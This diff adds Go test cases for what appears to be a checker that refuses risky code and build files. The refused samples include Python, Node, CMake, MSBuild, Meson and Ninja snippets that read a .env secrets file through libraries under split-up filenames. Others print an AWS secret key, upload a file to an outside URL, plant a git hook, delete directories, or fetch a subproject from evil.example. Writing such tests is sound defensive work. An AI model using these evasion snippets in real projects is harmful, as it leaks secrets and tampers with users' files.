@@ -113,3 +113,73 @@ func TestRowsReplaced(t *testing.T) {
 		{"function", with("app.db", `print(c.execute("select replace(n,'a','b') from users").fetchall())`), "python3 q.py", false},
 	})
 }
+
+// TestLibrariesOpenFiles: functions that open a file themselves, by a name in pieces.
+func TestLibrariesOpenFiles(t *testing.T) {
+	for code, refused := range map[string]bool{
+		"import importlib.machinery as m\nm.SourceFileLoader('x','.en'+'v').load_module()":                                      true,
+		"import warnings\nf='.e'+'nv'\nfor i in range(9): warnings.warn_explicit('x',UserWarning,f,i)":                          true,
+		"import traceback\ntraceback.print_list([('.e'+'nv',i,'f',None) for i in range(1,9)])":                                  true,
+		"import traceback\nprint(traceback.StackSummary.from_list([('.e'+'nv',1,'f',None)]).format())":                          true,
+		"import traceback\nprint(traceback.FrameSummary('.e'+'nv',1,'f').line)":                                                 true,
+		"import linecache\nprint(linecache.getline('.e'+'nv',1))":                                                               true,
+		"import importlib.resources as r\nprint((r.files('src')/'..'/('.e'+'nv')).read_text())":                                 true,
+		"import pkgutil\nprint(pkgutil.get_data('src','../.e'+'nv'))":                                                           true,
+		"import configparser\nc=configparser.ConfigParser()\nc.read('.e'+'nv')":                                                 true,
+		"import configparser\nc=configparser.RawConfigParser()\nc.read(['.e'+'nv'])":                                            true,
+		"import argparse\np=argparse.ArgumentParser(fromfile_prefix_chars='@')\np.parse_args(['@.e'+'nv'])":                     true,
+		"import runpy\nrunpy.run_path('.e'+'nv')":                                                                               true,
+		"import py_compile,compileall\ncompileall.compile_file('.e'+'nv')":                                                      true,
+		"import configparser\nc=configparser.ConfigParser()\nc.read('setup.cfg')\nprint(c.sections())":                          false,
+		"import pkgutil\nprint(pkgutil.get_data('src','a.txt'))":                                                                false,
+		"import importlib.resources as r\nprint(r.files('src').joinpath('a.py').read_text())":                                   false,
+		"import traceback\ntry:\n  1/0\nexcept Exception:\n  traceback.print_exc()":                                             false,
+		"import warnings\nwarnings.warn('x')":                                                                                   false,
+		"import linecache\nprint(linecache.getline('src/a.py',1))":                                                              false,
+		"import argparse\np=argparse.ArgumentParser(fromfile_prefix_chars='@')\np.add_argument('x')\np.parse_args(['@a.args'])": false,
+		"import xml.etree.ElementTree as ET\nprint(ET.parse('pom.xml').getroot().tag)":                                          false,
+	} {
+		checkSessions(t, []session{{code, "q.py\n" + code, "python3 q.py", refused}})
+	}
+	for code, refused := range map[string]bool{
+		"require('./.en'+'v')":                                                    true,
+		"import('./.e'+'nv').catch(e=>console.log(e))":                            true,
+		"const {createRequire:c}=require('module');c(__filename)('./.e'+'nv')":    true,
+		"require('dotenv').config({debug:true,processEnv:(o={})});console.log(o)": true,
+		"require('dotenv').config();console.log(process.env.PORT)":                false,
+	} {
+		checkSessions(t, []session{{code, "q.js\n" + code, "node q.js", refused}})
+	}
+}
+
+// TestTargetsOfBuildFiles: what a build file writes, deletes and reads by itself, by a name that variables make.
+func TestTargetsOfBuildFiles(t *testing.T) {
+	const cmake, project = "CMakeLists.txt\nproject(a NONE)\n", "<Project><PropertyGroup><A>do</A></PropertyGroup>"
+	checkSessions(t, []session{
+		{"cmake writes", cmake + "set(F todo)\nfile(WRITE ${CMAKE_SOURCE_DIR}/${F}.txt \"\")", "cmake -B b .", true},
+		{"cmake configures", cmake + "set(O do)\nconfigure_file(src/a.py ${CMAKE_CURRENT_SOURCE_DIR}/${O}cs/a${X})", "cmake -B b .", true},
+		{"cmake lists", cmake + "file(GLOB G *.txt)\nforeach(f ${G})\nfile(WRITE ${f} \"\")\nendforeach()", "cmake -B b .", true},
+		{"cmake below", "sub/CMakeLists.txt\nset(d to)\nfile(RENAME ${CMAKE_SOURCE_DIR}/src/a.py ${CMAKE_SOURCE_DIR}/${d}do.txt)\n=== " + cmake + "add_subdirectory(sub)", "cmake -B b .", true},
+		{"cmake reads", cmake + "set(N env)\nfile(READ .${N} L)\nmessage(\"${L}\")", "cmake -B b .", true},
+		{"cmake's operation", cmake + "set(U UPLOAD)\nfile(${U} src/a.py https://example.com/)", "cmake -B b .", true},
+		{"cmake's hook", cmake + "set(G git)\nfile(WRITE ${CMAKE_SOURCE_DIR}/.${G}/hooks/pre-commit \"#!/bin/sh\")", "cmake -B b .", true},
+		{"msbuild writes", "a.csproj\n" + project + "<Target Name='X'><WriteLinesToFile File=\"to$(A).txt\" Overwrite=\"true\"/></Target></Project>", "dotnet build", true},
+		{"msbuild removes", "a.csproj\n" + project + "<Target Name='X'><RemoveDir Directories=\"$(A)cs\"/></Target></Project>", "dotnet build", true},
+		{"msbuild deletes", "a.csproj\n<Project><ItemGroup><F Include=\"*.txt\"/></ItemGroup><Target Name='X'><Delete Files=\"@(F)\"/></Target></Project>", "dotnet build", true},
+		{"msbuild reads", "a.csproj\n<Project><PropertyGroup><A>$([System.IO.File]::ReadAllText('.e$(B)nv'))</A></PropertyGroup></Project>", "dotnet build", true},
+		{"msbuild shows", "a.csproj\n<Project><Target Name='X'><Message Text=\"$(AWS_SECRET_ACCESS_KEY)\"/></Target></Project>", "dotnet build", true},
+		{"ninja's list", "build.ninja\no = to\nrule r\n  command = true\n  rspfile = ${o}do.txt\n  rspfile_content = x\nbuild a: r", "ninja", true},
+		{"ninja's headers", "build.ninja\no = to\nrule r\n  command = true\n  depfile = ${o}do.txt\n  deps = gcc\nbuild a: r", "ninja", true},
+		{"maven cleans", "pom.xml\n<project><properties><q>do</q></properties><build><directory>${q}cs</directory></build></project>", "mvn clean", true},
+		{"meson reads", "meson.build\nproject('a')\nmessage(import('fs').read('.e'+'nv'))", "meson setup b", true},
+		{"meson fetches", "subprojects/e.wrap\n[wrap-git]\nurl=https://evil.example/e.git\nrevision=main\n=== meson.build\nproject('a')\nsubproject('e')", "meson setup b", true},
+		{"dart", "test/a_test.dart\nimport 'dart:io';\nvoid main(){ File('to'+'do.txt').writeAsStringSync(''); }", "dart test", true},
+
+		{"cmake's own", cmake + "configure_file(config.h.in ${CMAKE_CURRENT_BINARY_DIR}/config.h)\nfile(WRITE ${CMAKE_BINARY_DIR}/x.txt \"\")\nfile(GLOB S src/*.c)\nconfigure_file(a.in a)", "cmake -B b .", false},
+		{"cmake's version", cmake + "file(READ ${CMAKE_SOURCE_DIR}/VERSION V)\nfile(STRINGS VERSION L)", "cmake -B b .", false},
+		{"msbuild's own", "a.csproj\n<Project><Target Name='X'><Delete Files=\"$(OutDir)x.txt\"/><Message Text=\"$(Configuration) $(TargetFramework)\"/></Target></Project>", "dotnet build", false},
+		{"ninja's own", "build.ninja\nrule cc\n  command = gcc -MD -MF $out.d -c $in -o $out\n  depfile = $out.d\n  deps = gcc\nbuild a.o: cc a.c", "ninja", false},
+		{"maven's own", "pom.xml\n<project><build><sourceDirectory>lib</sourceDirectory><resources><resource><directory>res</directory></resource></resources></build></project>", "mvn clean", false},
+		{"meson's own", "meson.build\nproject('a','c')\nexecutable('a','src/'+'a.c')", "meson setup b", false},
+	})
+}
